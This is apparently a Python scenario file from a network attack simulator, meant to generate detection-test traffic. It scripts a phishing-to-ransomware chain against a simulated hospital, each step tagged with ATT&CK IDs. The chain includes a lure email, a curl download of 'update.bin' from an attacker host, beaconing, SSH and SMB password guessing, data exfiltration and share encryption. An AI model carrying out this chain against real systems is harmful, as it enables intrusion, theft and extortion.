"""Story 1: a phished workplace, and some hours later the file server's documents are locked.

A letter comes in; its link is followed and a program fetched (T1566.002, T1204.001); from then on calls to the master every five minutes
(T1071.001); after half an hour a scan of the servers (T1046); passwords guessed until one fits (T1110.001, T1078); with it onto the backup
server by SSH (T1021.004) and the file server by SMB (T1021.002, T1135); documents carried out (T1041); after three hours the shares are
locked, a canary first (T1486). A second workplace is taken on the way, by a service (T1569.002). Without Samba the story ends at the backup
server.
"""

from __future__ import annotations

from collections.abc import Callable
from datetime import datetime, timedelta

from accounts import ACCOUNT, PASSWORD
from acts.intrusion import AGENT, MASTER, attempts, carry_out, look_around, smb, ssh
from clients import mail
from scenario import Scenario, Script
from services.files import documents
from space import call
from state import Hospital

from scenarios.beaconing import calls
from scenarios.guessing import guesses
from scenarios.ransomware import NOTE, lock
from scenarios.remote_service import in_two_steps
from scenarios.scan import scan_servers

VICTIM, MASTERS = "adm-pc2", ("attacker", "ns")
CALLS, CALL_S, JITTER = 40, 300, 0.1
LOOT, PIECES = 20_000_000, 5
LOCKING = ("T1486", "T1021.002")


def send_lure(hospital: Hospital, moment: datetime) -> None:
    """A letter to somebody of the hospital, by SMTP to its mail server; the sender's domain is the link's."""
    text = f"Your invoice is overdue: http://{MASTER}/invoice.html"
    letter = mail.Letter(f"zz-billing@{MASTER}", [f"zz-clerk@{hospital.topology.domain}"], "Invoice", text)
    mail.send(hospital.address("mail"), 25, letter, moment, mail.Way(MASTER))


def lured(hospital: Hospital, moment: datetime) -> None:
    """The page of the link, and the program behind it, in clear."""
    words = ["curl", "-s", "-A", AGENT, "-m", "20", "-o", "/dev/null"]
    call([*words, f"http://{MASTER}/invoice.html", "-o", "/dev/null", f"http://{MASTER}/update.bin"])


def story(script: Script) -> None:
    begin = script.moment

    def after(minutes: float) -> None:
        script.moment = begin + timedelta(minutes=minutes)

    script.act("attacker", "letter with a link", send_lure, "mail", technique=("T1566.002",))
    after(3)
    script.act(VICTIM, "link of a letter followed", lured, *MASTERS, technique=("T1204.001",))
    after(5)
    calls(script, VICTIM, CALLS, CALL_S, JITTER)
    after(31)
    scan_servers(script, VICTIM)
    after(48)
    script.act(VICTIM, "passwords guessed", attempts(ssh("backup"), guesses("root", 40), at_once=8), "backup", technique=("T1110.001",))
    after(52)
    hit = attempts(ssh("backup"), [(ACCOUNT, PASSWORD)], success=True)
    script.act(VICTIM, "log-in at the backup server", hit, "backup", technique=("T1078", "T1021.004"))
    after(55)
    in_two_steps(script, VICTIM, "adm-pc1", 40)
    if not script.hospital.quick:
        on_the_file_server(script, after)
    script.moment = begin + timedelta(seconds=CALLS * CALL_S * (1 + JITTER))


def on_the_file_server(script: Script, after: Callable[[float], None]) -> None:
    """What was guessed fits here too."""
    after(58)
    guessed = [(ACCOUNT, f"zz-wrong-{number}") for number in range(6)]
    hit = attempts(smb("files"), [*guessed, (ACCOUNT, PASSWORD)], success=True)
    script.act(VICTIM, "log-in at the file server", hit, "files", technique=("T1110.001", "T1078"))
    after(66)
    script.act(VICTIM, "shares listed, documents read", look_around("files", "reports"), "files", technique=("T1135", "T1083", "T1021.002"))
    after(95)
    script.act(VICTIM, "documents carried out", carry_out(LOOT, PIECES), *MASTERS, technique=("T1041",))
    after(174)
    script.act(VICTIM, "a canary touched", lock("canary", 0, 1), "files", technique=LOCKING)
    after(175)
    script.act(VICTIM, "documents locked", lock("reports", 0, len(documents("reports")), note=NOTE), "files", technique=LOCKING)


SCENARIO = Scenario(
    name="story-ransomware",
    title="From a link in a letter to locked documents",
    technique=("T1566.002", "T1204.001", "T1071.001", "T1046", "T1110.001", "T1021.002", "T1021.004", "T1569.002", "T1041", "T1486"),
    variants={"hours": story},
)
